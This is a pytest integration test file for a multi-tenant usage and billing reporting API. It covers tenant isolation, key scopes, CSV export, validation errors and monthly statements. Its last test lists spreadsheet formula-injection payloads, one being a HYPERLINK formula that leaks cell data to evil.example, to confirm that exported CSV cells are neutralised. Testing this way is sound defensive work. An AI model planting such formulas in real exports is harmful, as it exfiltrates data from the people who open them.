"""The usage and cost reports over the REST API: operators see every tenant with cost and
margin; a tenant viewer or a ``usage:read`` key sees its own tenant's usage and price, however
it asks; CSV as well as JSON; bad ranges are a 400, pool costs are for staff."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import User
from rest_framework.test import APIClient

from federation.metering.models import UsageHour
from federation.metering.rollups import usage_hours_refresh
from federation.metering.services import usage_ingest
from federation.tenancy import services as tenancy
from federation.tenancy.models import ApiKey, Tenant
from regions.tables.usage import encode_record
from tests.integration.test_metering_ingest import HOUR, doc, fleet  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db
DAY = {"start": HOUR.date().isoformat(), "end": (HOUR + timedelta(days=1)).date().isoformat()}


@pytest.fixture
def usage(fleet: str) -> str:  # noqa: F811  (the fixture above)
    docs = [doc(i, fleet, ("acme", "globex")[i % 2]) for i in range(20)]
    usage_ingest(documents=[encode_record(d) for d in docs])
    usage_hours_refresh()
    return fleet


def get(client: APIClient, path: str, **params: Any) -> Any:
    return client.get(f"/api/v1/{path}/", params)


def test_operators_see_every_tenant_with_cost_and_margin(
    usage: str, operator_client: APIClient
) -> None:
    r = get(operator_client, "usage", group_by="tenant", bucket="day", **DAY)
    assert r.status_code == 200, r.content
    rows = r.json()["results"]
    assert [(row["tenant"], row["requests"]) for row in rows] == [("acme", 10), ("globex", 10)]
    for row in rows:
        assert row["day"] == HOUR.date().isoformat()
        price, cost = Decimal(row["price_usd"]), Decimal(row["cost_usd"])
        assert Decimal(row["margin_usd"]) == price - cost and price > 0


def test_a_tenant_sees_only_its_own_usage_without_cost(
    usage: str,
    make_viewer: Callable[[Tenant], User],
    client_for: Callable[[User | None], APIClient],
) -> None:
    viewer = client_for(make_viewer(Tenant.objects.get(slug="acme")))
    # Asking for the other tenant, or for everyone grouped by tenant: still only its own.
    for params in ({"tenant": "globex"}, {"group_by": "tenant"}):
        rows = get(viewer, "usage", **DAY, **params).json()["results"]
        assert all(row.get("tenant", "acme") == "acme" for row in rows)
        assert all("cost_usd" not in row and "margin_usd" not in row for row in rows)
    [total] = get(viewer, "usage", **DAY).json()["results"]
    assert total["requests"] == 10
    costs = get(viewer, "costs", **DAY)
    assert costs.status_code == 403
    assert costs.json() == {"detail": "Only admins and operators read pool costs."}


def test_a_usage_read_key_reads_its_tenants_usage_and_an_inference_key_does_not(
    usage: str,
) -> None:
    acme = Tenant.objects.get(slug="acme")
    reader = tenancy.api_key_create(
        actor=None, tenant=acme, name="reports", scopes=[ApiKey.Scope.USAGE_READ]
    )
    inference = tenancy.api_key_create(actor=None, tenant=acme, name="app")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {reader.plaintext}")
    r = get(client, "usage", group_by="tenant", output="csv", **DAY)
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.content.decode())))
    assert [(row["tenant"], row["requests"]) for row in rows] == [("acme", "10")]
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {inference.plaintext}")
    assert get(client, "usage", **DAY).status_code == 403
    client.credentials(HTTP_AUTHORIZATION="Bearer fi_nonsense")
    assert get(client, "usage", **DAY).status_code == 401
    assert get(APIClient(), "usage", **DAY).status_code in (401, 403)


def test_pool_costs_for_staff(usage: str, operator_client: APIClient) -> None:
    rows = get(operator_client, "costs", bucket="hour", pool="us-east/h100", **DAY).json()
    [row] = rows["results"]
    parts = ("allocated_usd", "idle_usd", "warm_idle_usd", "reprefill_usd")
    total = sum(Decimal(row[p]) for p in parts)
    assert total == Decimal(row["cost_usd"]) == 16 * Decimal("2.5")
    # Every pool when the filter is empty; a NUL, which PostgreSQL cannot compare, is a 400
    # (schemathesis found it a 500).
    assert len(get(operator_client, "costs", pool="", **DAY).json()["results"]) >= 1
    refused = get(operator_client, "costs", pool="us-east/h\x00100", **DAY)
    assert refused.status_code == 400 and "pool" in refused.json()


def test_a_statement_shows_each_keys_spend_across_its_rotations(
    fleet: str,  # noqa: F811
    operator_client: APIClient,
) -> None:
    acme = Tenant.objects.get(slug="acme")
    issued = tenancy.api_key_create(
        actor=None, tenant=acme, name="batch", monthly_budget_usd=Decimal("2.00")
    )
    idle = tenancy.api_key_create(actor=None, tenant=acme, name="idle")
    first = issued.api_key.prefix
    usage_ingest(documents=[encode_record(doc(i, fleet, "acme", key_prefix=first)) for i in (1, 2)])
    rotated = tenancy.api_key_rotate(actor=None, api_key=issued.api_key).api_key
    usage_ingest(
        documents=[
            encode_record(doc(3, fleet, "acme", key_prefix=rotated.prefix)),
            # Another tenant's record under a prefix of acme's key is not acme's key's spend.
            encode_record(doc(4, fleet, "globex", key_prefix=first)),
        ]
    )
    from federation.metering.models import UsageRecord

    charged = sum(
        r.price_usd
        for r in UsageRecord.objects.filter(
            tenant="acme", request_id__in=["req-1", "req-2", "req-3"]
        )
    )
    body = get(operator_client, "usage/statement", tenant="acme", month="2026-11").json()
    assert body["keys"] == [
        {
            "id": issued.api_key.pk,
            "name": "batch",
            "prefix": rotated.prefix,
            "spent_usd": str(charged),
            "monthly_budget_usd": "2.00",
            "budget_used": pytest.approx(float(charged / 2)),
        }
    ]
    assert idle.api_key.pk not in [k["id"] for k in body["keys"]]  # no spend, no budget


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"start": "2026-11-30", "end": "2026-11-29"}, "end"),
        ({"start": "2026-01-01", "end": "2026-03-01", "bucket": "hour"}, "end"),
        ({"start": "yesterday", "end": "2026-11-29"}, "start"),
        ({**DAY, "group_by": "tenant,colour"}, "group_by"),
        ({**DAY, "group_by": "tenant,tenant"}, "group_by"),
        ({**DAY, "output": "xml"}, "output"),
    ],
)
def test_bad_queries_are_a_clear_400(
    usage: str, operator_client: APIClient, params: dict[str, str], field: str
) -> None:
    r = get(operator_client, "usage", **params)
    assert r.status_code == 400, r.content
    assert field in r.content.decode()


def test_a_monthly_statement_bills_each_model_to_the_last_digit(
    usage: str,
    operator_client: APIClient,
    make_viewer: Callable[[Tenant], User],
    client_for: Callable[[User | None], APIClient],
) -> None:
    from federation.metering.models import UsageRecord
    from tests.integration.inventory_factories import services_clock

    Tenant.objects.filter(slug="acme").update(monthly_budget_usd=Decimal("10.00"))
    operator = APIClient()
    operator.force_authenticate(User.objects.get(username="oscar-operator"))  # a clock-free login
    with services_clock(datetime(2026, 12, 8, 1, tzinfo=UTC)):  # past November's late records
        r = get(operator, "usage/statement", tenant="acme", month="2026-11")
    assert r.status_code == 200, r.content
    body = r.json()
    charged = sum(r.price_usd for r in UsageRecord.objects.filter(tenant="acme"))
    assert Decimal(body["total_usd"]) == charged > 0
    [line] = body["lines"]
    assert (line["model"], line["requests"]) == (usage, 10)
    assert "cost_usd" not in line  # a statement is what the tenant pays
    assert body["monthly_budget_usd"] == "10.00"
    assert body["budget_used"] == pytest.approx(float(charged / 10))
    assert body["final"] is True  # November is over and rolled up

    viewer = client_for(make_viewer(Tenant.objects.get(slug="acme")))
    assert get(viewer, "usage/statement", month="2026-11").json()["total_usd"] == str(charged)
    assert get(viewer, "usage/statement", month="2026-11", tenant="globex").status_code == 404
    csv_rows = list(
        csv.DictReader(
            io.StringIO(
                get(viewer, "usage/statement", month="2026-11", output="csv").content.decode()
            )
        )
    )
    assert [row["model"] for row in csv_rows] == [usage, "TOTAL"]
    assert Decimal(csv_rows[-1]["price_usd"]) == charged
    empty = get(viewer, "usage/statement", month="2026-10").json()
    assert (empty["lines"], empty["total_usd"]) == ([], "0")


@pytest.mark.parametrize(
    ("params", "field"),
    [({"month": "2026-13", "tenant": "acme"}, "month"), ({"month": "2026-11"}, "tenant")],
)
def test_a_statement_needs_a_month_and_for_operators_a_tenant(
    usage: str, operator_client: APIClient, params: dict[str, str], field: str
) -> None:
    r = get(operator_client, "usage/statement", **params)
    assert r.status_code == 400 and field in r.content.decode()
    assert (
        get(operator_client, "usage/statement", month="2026-11", tenant="nobody").status_code == 404
    )


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\tcmd",
    "\r=1",
]


def test_a_csv_cell_that_could_start_a_formula_is_written_as_text(
    operator_client: APIClient,
) -> None:
    """Names an edge reported (a tenant, a model, a pool) reach the CSV as text a spreadsheet
    never evaluates: prefixed with ``'`` (OWASP); numbers stay numbers."""
    sums = {"requests": 1, "cancelled": 0, "errors": 0, "prompt_tokens": 5, "cached_tokens": 0}
    for i, name in enumerate(FORMULAS):
        UsageHour.objects.create(
            hour=HOUR, tenant=name[:63], model=name, region="us-east", pool=f"us-east/{name}",
            completion_tokens=i, price_usd=Decimal("0.5"), cost_usd=Decimal("0.25"), **sums,
        )  # fmt: skip
    r = get(
        operator_client, "usage", group_by="tenant,model,pool", bucket="hour", output="csv", **DAY
    )
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.content.decode(), newline="")))
    assert sorted(row["model"] for row in rows) == sorted("'" + name for name in FORMULAS)
    for row in rows:
        name = row["model"][1:]
        assert (row["tenant"], row["pool"]) == ("'" + name, f"us-east/{name}")
        assert row["requests"] == "1" and Decimal(row["price_usd"]) == Decimal("0.5")
